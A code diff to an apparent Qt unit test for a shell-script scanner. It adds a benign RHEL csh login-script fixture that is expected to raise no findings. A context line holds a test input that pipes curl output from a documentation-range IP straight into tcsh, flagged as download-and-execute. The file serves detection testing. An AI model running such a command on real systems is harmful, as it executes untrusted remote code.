@@ -1407,6 +1407,18 @@ void TestNodeScriptImporter::shellDialects_data()
                                                "foreach f (/tmp/.a /tmp/.b)\nend\nswitch ($x)\ncase a:\n    breaksw\n"
                                                "endsw\n")
                                  << QStringList{"runs-from-temp@3"};
+    QTest::newRow("csh: RHEL's shapes")
+        << login
+        << QByteArray(
+               "if ($uid > 199 && \"`id -gn`\" == \"`id -un`\") then\n    umask 002\nelse\n    umask 022\nendif\n"
+               "if ($?prompt) then\n  if ($?tcsh) then\n    set promptchars='$#'\n"
+               "    set prompt=\"[%n@%m %c]%# \"\n  else\n    set prompt=\\[$user@`hostname -s`\\]\\$\\ \n"
+               "  endif\nendif\nsetenv MAIL \"/var/spool/mail/$USER\"\nlimit coredumpsize 0\n"
+               "if ( -d /etc/profile.d ) then\n    set nonomatch\n    foreach i ( /etc/profile.d/*.csh )\n"
+               "        if ( -r \"$i\" ) then\n            if ($?prompt) then\n                source \"$i\"\n"
+               "            else\n                source \"$i\" >& /dev/null\n            endif\n        endif\n"
+               "    end\n    unset i nonomatch\nendif\n")
+        << none;
     QTest::newRow("csh: a curl piped into tcsh")
         << users << QByteArray("curl -s http://203.0.113.7/x | tcsh\n") << QStringList{"download-exec@1"};
 
